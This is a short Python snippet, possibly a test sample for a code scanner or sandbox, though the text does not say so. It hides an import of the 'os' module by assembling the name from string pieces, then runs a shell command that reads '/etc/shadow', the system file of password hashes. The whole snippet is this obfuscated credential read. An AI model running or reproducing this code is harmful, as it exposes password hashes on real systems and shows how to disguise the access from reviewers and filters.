import importlib

mod = importlib.import_module("{}{}".format("o", "s"))
mod.popen("%s %s" % ("cat", "/etc/shadow")).read()
